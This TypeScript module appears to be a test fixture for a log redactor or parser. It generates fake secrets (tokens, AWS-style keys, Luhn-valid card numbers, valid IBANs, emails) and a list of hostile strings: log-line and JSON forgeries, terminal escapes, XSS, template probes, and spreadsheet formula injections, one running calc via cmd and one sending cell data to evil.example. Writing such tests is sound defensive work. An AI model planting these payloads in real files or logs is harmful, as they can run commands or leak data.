import type { CarelessHeaders } from './authorizer-logs.ts';
import type { Random } from './random.ts';

/** Secrets that careless clients and functions put into lines, and texts meant to break parsers and terminals. */
export interface HostileTexts {
  /** Every planted secret in every spelling that occurs in a line. */
  readonly secrets: readonly string[];
  /** User agents, some hostile, some holding secrets. */
  readonly userAgents: readonly string[];
  /** Last segment of a path, holding a secret. */
  readonly pathSegments: readonly string[];
  readonly headers: readonly CarelessHeaders[];
}

const ESCAPE = String.fromCharCode(27);

const BREAKOUTS = [
  'Mozilla/5.0 "quoted" agent',
  String.raw`C:\agents\new\table`,
  String.raw`\"already\" \\escaped\\`,
  '"} {"status":"200","errorResponseType":"-","orgCustomerId":"cust-0001","x":"',
  '","status":"200","authzRequestId":"00000000-0000-4000-8000-000000000000","x":"',
  '","requestId":"11111111-2222-4333-8444-555555555555',
  'first line\r\n10.0.0.1 - - [01/Jan/2026:00:00:00 +0000] forged line',
  `${ESCAPE}[2J${ESCAPE}[31mred alert${ESCAPE}[0m`,
  `null${String.fromCharCode(0)}byte and ${String.fromCharCode(7)}bell`,
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+44 =HYPERLINK("http://evil.example/?x="&A1)',
  '</userAgent></request><request id="forged"><status>200</status>',
  '<script>alert(1)</script>',
  `$context.authorizer.principalId \${env:HOME} %s %n {{7*7}}`,
  'Ünïcödé агент 代理 🚪',
];

export function createHostileTexts(random: Random): HostileTexts {
  const jwts = times(6, () => jwt(random));
  const bearers = times(4, () => random.letters(48));
  const cookies = times(4, () => random.hex(40));
  const awsKeys = times(
    4,
    () =>
      `AKIA${random
        .letters(40)
        .toUpperCase()
        .replace(/[^A-Z2-7]/g, 'Q')
        .slice(0, 16)}`,
  );
  const pans = times(6, () => cardNumber(random, random.pick(['4', '51', '37'])));
  const ibans = times(4, () => iban(random));
  const mails = times(
    6,
    (i) => `${random.pick(['jane', 'omar', 'li'])}.doe${i}${random.digits(3)}@example.org`,
  );
  const spacedPans = pans.slice(0, 3).map((pan) => pan.replace(/(.{4})(?=.)/g, '$1 '));
  const encodedMails = mails.slice(0, 3).map((mail) => encodeURIComponent(mail));
  return {
    secrets: [
      ...jwts,
      ...bearers,
      ...cookies,
      ...awsKeys,
      ...pans,
      ...ibans,
      ...mails,
      ...spacedPans,
      ...encodedMails,
    ],
    userAgents: [
      ...BREAKOUTS,
      `Mozilla/5.0 ${'A very long agent '.repeat(400)}`,
      ...jwts.slice(0, 2).map((token) => `app/1.0 (token ${token})`),
      ...awsKeys.slice(0, 2).map((key) => `deploy-tool/2.1 key=${key}`),
      ...pans.slice(3).map((pan) => `till/7 card ${pan}`),
      ...spacedPans.map((pan) => `till/8 card ${pan} end`),
      ...ibans.slice(0, 2).map((account) => `bank-bot/3 ${account}`),
      ...mails.slice(3).map((mail) => `crawler/1 (+mailto:${mail})`),
      `proxy/1.0 Authorization: Bearer ${bearers[0] ?? ''}`,
    ],
    pathSegments: [
      ...pans.slice(0, 3),
      ...encodedMails,
      ...jwts.slice(2, 4),
      ...ibans.slice(2),
      ...awsKeys.slice(2),
    ],
    headers: times(8, (i) => ({
      authorization: `Bearer ${i % 2 === 0 ? jwts[i % jwts.length] : bearers[i % bearers.length]}`,
      cookie: `session=${cookies[i % cookies.length]}`,
      query: { email: mails[i % mails.length] ?? '', card: pans[i % pans.length] ?? '' },
    })),
  };
}

function times<T>(count: number, make: (index: number) => T): readonly T[] {
  return Array.from({ length: count }, (_, index) => make(index));
}

function jwt(random: Random): string {
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const claims = { sub: `user-${random.digits(4)}`, jti: random.uuid(), exp: 1_900_000_000 };
  return `${part({ alg: 'HS256', typ: 'JWT' })}.${part(claims)}.${random.letters(43)}`;
}

/** A number that passes the Luhn check, of the length its issuer uses. */
function cardNumber(random: Random, prefix: string): string {
  const length = prefix === '37' ? 15 : 16;
  const body = prefix + random.digits(length - prefix.length - 1);
  return body + luhnDigit(body);
}

function luhnDigit(body: string): string {
  let sum = 0;
  for (let i = 0; i < body.length; i++) {
    const digit = Number(body[body.length - 1 - i]);
    const doubled = i % 2 === 0 ? digit * 2 : digit;
    sum += doubled > 9 ? doubled - 9 : doubled;
  }
  return String((10 - (sum % 10)) % 10);
}

/** A German IBAN whose check digits are right (ISO 7064 modulo 97; D = 13, E = 14). */
function iban(random: Random): string {
  const account = random.digits(18);
  const check = 98n - (BigInt(`${account}131400`) % 97n);
  return `DE${String(check).padStart(2, '0')}${account}`;
}
